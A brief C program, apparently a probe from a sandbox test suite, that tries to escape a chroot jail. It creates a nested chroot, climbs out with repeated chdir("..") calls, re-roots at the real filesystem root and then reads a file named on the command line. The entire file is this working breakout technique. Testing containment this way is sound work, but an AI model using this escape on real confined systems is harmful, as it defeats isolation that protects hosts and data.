/* climb FILE: makes a second chroot, stays outside of it, goes up, and reads FILE. */
#include "way.h"

int main(int argc, char **argv) {
    (void)argc;
    mkdir("climb", 0700);
    if (chroot("climb") < 0)
        perror("chroot");
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0)
        perror("chroot(\".\")");
    if (!tell_at(AT_FDCWD, argv[1]))
        held(argv[1]);
    return 0;
}
